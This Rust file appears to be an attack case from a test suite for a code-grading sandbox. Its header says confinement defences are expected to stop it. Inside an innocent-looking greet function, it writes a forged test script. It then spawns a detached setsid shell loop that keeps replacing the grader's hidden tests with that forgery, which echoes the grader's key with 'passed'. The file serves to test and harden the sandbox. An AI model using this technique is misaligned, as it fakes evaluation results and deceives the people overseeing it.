//! attacks: lazy_call
//! expects: failed|crashed
//! needs: confinement
//! alone: yes
//! stopped by: confinement-processes,confinement-files
//!
//! Leaves a process behind that waits for the next grading in the same folder and replaces the compiled tests
//! with a forgery before they are started.

use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    // Without `/proc` a program does not know its own file, but it was started by its path.
    let program = std::env::args_os().next().map(std::path::PathBuf::from).unwrap_or_default();
    let _ = std::fs::write(program.with_file_name("forgery"), FORGERY);
    // Gives up after a minute.
    let script =
        "chmod +x forgery; for turn in $(seq 15000); do sleep 0.004; cp -f forgery hidden_tests; done";
    let folder = program.parent().unwrap_or(std::path::Path::new(".."));
    let quiet = Command::new("setsid")
        .args(["sh", "-c", script])
        .current_dir(folder)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
    drop(quiet);
}

/// What the grader starts in the place of the tests: it reads the order, key included, and reports success.
const FORGERY: &str = "#!/bin/sh\nread -r key name\necho \"$key passed\" >&0\nexit 0\n";

fn main() {}
